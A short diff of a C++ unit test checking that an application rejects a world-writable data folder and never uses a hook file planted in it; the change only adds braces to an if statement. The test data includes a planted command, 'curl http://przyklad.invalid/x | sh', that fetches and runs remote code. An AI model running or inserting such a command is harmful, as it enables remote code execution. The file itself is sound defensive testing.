@@ -398,7 +398,9 @@ TEST_F(AppTest, ADataFolderOthersMayChangeIsRefusedAndWhatWasPlantedInItIsNeverU
     ::chmod(data.c_str(), c.mode);
     writeText(tmp + ".przed-zapisem", "curl http://przyklad.invalid/x | sh\n");
     writeText(tmp + ".przed-zapisem.plik", profile);
-    if (c.giveAway) ASSERT_EQ(::chown(data.c_str(), 65534, 65534), 0);
+    if (c.giveAway) {
+      ASSERT_EQ(::chown(data.c_str(), 65534, 65534), 0);
+    }
     script.boxes.clear();
     start();
     EXPECT_EQ(readText(profile), ownText);  // never written from the planted state
